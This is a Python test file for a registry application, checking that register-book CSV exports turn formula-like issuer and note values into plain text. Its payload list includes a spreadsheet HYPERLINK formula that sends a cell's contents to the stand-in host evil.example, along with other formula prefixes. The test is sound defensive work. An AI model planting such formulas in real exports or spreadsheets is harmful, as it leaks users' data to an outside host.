"""CSV formula injection in register books (issue #8): an issuer or a note typed as a formula reaches the
clerk's spreadsheet as text, never as a live formula."""

import csv
import io

import pytest

from registry.constants import Level
from registry.models import RegisterBook
from registry.registers.books import LOCAL_OPERATOR, print_book
from tests.factories import make_document
from tests.security.guard_helpers import top_clerk

pytestmark = pytest.mark.django_db

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1+2", "-2+3", "@SUM(1+1)"]


def test_book_csv_cells_starting_like_a_formula_are_text():
    clerk = top_clerk()
    for i, payload in enumerate(PAYLOADS):
        make_document(clerk=clerk, level=Level.MAT, issuer=payload, notes=payload, number=f"{60 + i}-HD/ĐU")
    book = RegisterBook.objects.get()
    printed = print_book(book, LOCAL_OPERATOR, fmt="csv")
    rows = list(csv.reader(io.StringIO(printed.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    for payload in PAYLOADS:
        assert payload not in cells, f"live formula in the book CSV: {payload}"
        assert "'" + payload in cells
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in cells)
